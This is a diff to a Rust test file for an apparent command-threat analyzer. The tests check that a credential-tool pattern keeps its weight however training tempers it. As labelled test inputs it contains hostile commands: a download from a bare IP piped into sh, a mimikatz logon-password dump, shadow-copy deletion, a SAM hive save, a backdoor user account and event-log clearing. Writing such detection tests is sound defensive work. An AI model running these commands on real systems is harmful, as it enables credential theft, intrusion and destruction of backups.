@@ -120,30 +120,14 @@ fn a_signature_scan_cut_short_is_named_in_the_verdict() {
     );
 }
 
-/// A model taught, as documentation teaches, that a download piped into a shell is an
-/// installer: the bare address still brings the verdict to HIGH, and the explanation says
-/// which pattern held it there.
-#[test]
-fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
+/// A small model trained on each text 15 times, with the pattern counts of those texts
+/// (so training tempers the patterns the benign ones carry).
+fn taught(benign: &[&str], malicious: &[&str]) -> Arc<model::PayloadModel> {
     let plain = analyzer();
     let set = features::FeatureSet {
         bits: 12,
         ..Default::default()
     };
-    let benign = [
-        "curl -fsSL https://get.docker.com | sh",
-        "curl -sSf https://sh.rustup.rs | sh",
-        "wget -qO- https://install.example.org/setup.sh | bash",
-        "curl -s https://packages.example.com/gpg | sudo apt-key add -",
-        "ls -la /var/www",
-        "git status",
-    ];
-    let malicious = [
-        "vssadmin delete shadows /all /quiet",
-        "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
-        "net user backdoor P@ss /add",
-        "wevtutil cl Security",
-    ];
     let texts: Vec<(Analysed, bool)> = (0..15)
         .flat_map(|_| {
             let b = benign.iter().map(|t| (t, false));
@@ -161,13 +145,37 @@ fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
         ..Default::default()
     };
     let mut model = train::train(&rows, &params, "").expect("trains");
-    // The training texts temper `download-pipe-shell` (45 benign, 0 malicious).
     model.patterns = Some(tempering::PatternCounts::count(
         texts
             .iter()
             .map(|(a, label)| (tempering::pattern_ids(a), *label)),
     ));
-    let a = Analyzer::new(Some(Arc::new(model)), VerdictConfig::default());
+    Arc::new(model)
+}
+
+/// A model taught, as documentation teaches, that a download piped into a shell is an
+/// installer: the bare address still brings the verdict to HIGH, and the explanation says
+/// which pattern held it there.
+#[test]
+fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
+    // The training texts temper `download-pipe-shell` (45 benign, 0 malicious).
+    let model = taught(
+        &[
+            "curl -fsSL https://get.docker.com | sh",
+            "curl -sSf https://sh.rustup.rs | sh",
+            "wget -qO- https://install.example.org/setup.sh | bash",
+            "curl -s https://packages.example.com/gpg | sudo apt-key add -",
+            "ls -la /var/www",
+            "git status",
+        ],
+        &[
+            "vssadmin delete shadows /all /quiet",
+            "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
+            "net user backdoor P@ss /add",
+            "wevtutil cl Security",
+        ],
+    );
+    let a = Analyzer::new(Some(model), VerdictConfig::default());
     let v = a.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
     let model_score = v.views.model.unwrap_or(100.0);
     assert!(
@@ -192,4 +200,55 @@ fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
     let v = off.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
     assert!(v.score < 50.0, "{}", v.explanation);
     assert!(!v.explanation.contains("Held at"), "{}", v.explanation);
+}
+
+/// A model taught, as tldr teaches, that mimikatz is documentation: training tempers the
+/// credential-tool pattern far down, but running the tool is never benign, so the pattern
+/// holds the verdict at its written weight — and says so. An installer piped into a shell,
+/// which documentation also shows and hosts really run, is tempered as before.
+#[test]
+fn a_pattern_without_benign_use_holds_its_written_weight_whatever_training_says() {
+    let model = taught(
+        &[
+            "mimikatz \"crypto::providers\"",
+            "mimikatz \"standard::info\"",
+            "mimikatz \"process::list\"",
+            "mimikatz \"misc::systemtime\"",
+            "curl -fsSL https://get.docker.com | sh",
+            "ls -la /var/www",
+            "git status",
+        ],
+        &[
+            "vssadmin delete shadows /all /quiet",
+            "net user backdoor P@ss /add",
+            "wevtutil cl Security",
+        ],
+    );
+    let dump = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
+    let held = Analyzer::new(Some(model.clone()), VerdictConfig::default()).analyze(dump, None);
+    let tool = held
+        .patterns
+        .iter()
+        .find(|p| p.id == "credential-tool")
+        .expect("the tool is named");
+    assert!(tool.weight < 0.5, "tempered: {tool:?}");
+    assert!(held.score >= 71.0, "{}", held.explanation);
+    assert_eq!(held.level, ThreatLevel::High);
+    assert!(
+        held.explanation
+            .contains("weight 0.95 as written; the training texts weigh it"),
+        "{}",
+        held.explanation
+    );
+    // Turned off, the tempered weight holds nothing.
+    let off = VerdictConfig {
+        written_floor: false,
+        ..VerdictConfig::default()
+    };
+    let tempered = Analyzer::new(Some(model.clone()), off).analyze(dump, None);
+    assert!(tempered.score < 50.0, "{}", tempered.explanation);
+    // The installer keeps its tempered weight: no written floor for a download.
+    let installer = Analyzer::new(Some(model), VerdictConfig::default())
+        .analyze("curl -fsSL https://get.docker.com | sh", Some(Shell::Sh));
+    assert!(installer.score < 50.0, "{}", installer.explanation);
 }
